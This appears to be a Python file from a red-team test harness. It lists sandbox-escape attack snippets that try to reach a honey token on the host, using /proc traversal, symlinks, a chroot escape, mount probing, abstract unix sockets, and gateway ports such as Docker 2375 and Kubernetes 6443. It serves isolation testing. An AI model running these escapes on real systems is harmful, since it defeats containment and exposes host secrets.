"""Out of the machine: files of the host, its sockets, its devices. What a script can say of the token in a file of this host is what counts."""

from hatchway.redteam.attacks.attack import Attack, table

_PATH = "facts['honey']"

ATTACKS: tuple[Attack, ...] = (
    *table("E01", "A file of this host", {
        "path": f"look({_PATH})",
        "of-all-processes": f"for one in os.listdir('/proc'):\n    if one.isdigit() and int(one) < 400: look(f'/proc/{{one}}/root' + {_PATH})",
        "working-folders": f"for one in os.listdir('/proc'):\n    if one.isdigit() and int(one) < 400: look(f'/proc/{{one}}/cwd/' + '../' * 12 + {_PATH})",
        "dots": f"look('/tmp/' + '../' * 20 + {_PATH})",
        "link": f"p = tempfile.mkdtemp() + '/l'; os.symlink({_PATH}, p); look(p)",
        "link-to-root": f"p = tempfile.mkdtemp() + '/l'; os.symlink('/proc/self/root', p); look(p + {_PATH})",
        "shared-mounts": f"for one in ('/mnt', '/media', '/host', '/shared', '/run/host', ''): look(one + {_PATH})",
        "chroot-escape": f"d = tempfile.mkdtemp(); f = os.open('/', os.O_RDONLY); os.chroot(d); os.fchdir(f); [os.chdir('..') for _ in range(30)]; os.chroot('.'); look({_PATH})",
        "mounts": f"for line in open('/proc/self/mountinfo').read().splitlines(): look(line.split()[4].rstrip('/') + {_PATH})",
    }),
    *table("E02", "A socket of this host", {
        "without-a-file": "tried.append('unix'); s = socket.socket(socket.AF_UNIX); s.settimeout(3); s.connect('\\0' + facts['abstract']); s.sendall(B)",
        "port-by-hand": "by_hand(facts['here'][0], facts['port'], B)",
        "gateway-by-hand": "by_hand('10.200.0.1', facts['port'], B)",
        "port-datagram": "udp(facts['here'][0], facts['port'], B)",
        "gateway-datagram": "frame(ip4('10.200.0.1', 17, udp4('10.200.0.1', facts['port'], B)))",
        "all-ports-of-the-gateway": "for port in (facts['port'], 7070, 7071, 2375, 6443):\n    try: tcp('10.200.0.1', port, B)\n    except OSError: pass",
    }),
)  # fmt: skip
